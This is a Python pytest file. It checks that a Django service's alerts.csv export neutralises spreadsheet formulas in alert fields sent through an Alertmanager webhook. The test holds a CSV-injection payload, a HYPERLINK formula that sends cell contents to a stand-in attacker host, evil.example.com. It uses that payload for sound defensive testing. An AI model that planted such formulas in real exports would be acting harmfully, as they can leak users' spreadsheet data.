"""An alert name crafted as a spreadsheet formula reaches the service's alerts export (through
the real Alertmanager webhook) and comes out of alerts.csv as text, not as a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

pytestmark = pytest.mark.django_db

TOKEN = "alertmanager-token-for-the-test"
FORMULA = '=HYPERLINK("https://evil.example.com/?leak="&A1,"Click for details")'


def test_an_alert_named_like_a_formula_is_neutralised_in_alerts_csv(
    service, lead, settings
) -> None:
    settings.PREFLIGHT_ALERTMANAGER_TOKEN = TOKEN
    body = {
        "receiver": "@preflight",
        "status": "firing",
        "alerts": [
            {
                "status": "firing",
                "labels": {"alertname": FORMULA, "service": service.slug},
                "startsAt": "2026-01-01T00:00:00Z",
                "fingerprint": "-1+1",
            }
        ],
    }
    stored = Client().post(
        "/hooks/alertmanager",
        data=json.dumps(body),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {TOKEN}",
    )
    assert stored.status_code == 200
    client = Client()
    client.force_login(lead)
    response = client.get(f"/dashboards/services/{service.slug}/data/alerts.csv")
    assert response.status_code == 200
    header, row = list(csv.reader(io.StringIO(response.content.decode())))
    record = dict(zip(header, row, strict=True))
    assert record["alertname"] == "'" + FORMULA
    assert record["fingerprint"] == "'-1+1" and record["receiver"] == "'@preflight"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
    # JSON is not opened by spreadsheets: it keeps the value exactly.
    data = client.get(f"/dashboards/services/{service.slug}/data/alerts.json").json()
    assert data["rows"][0]["alertname"] == FORMULA
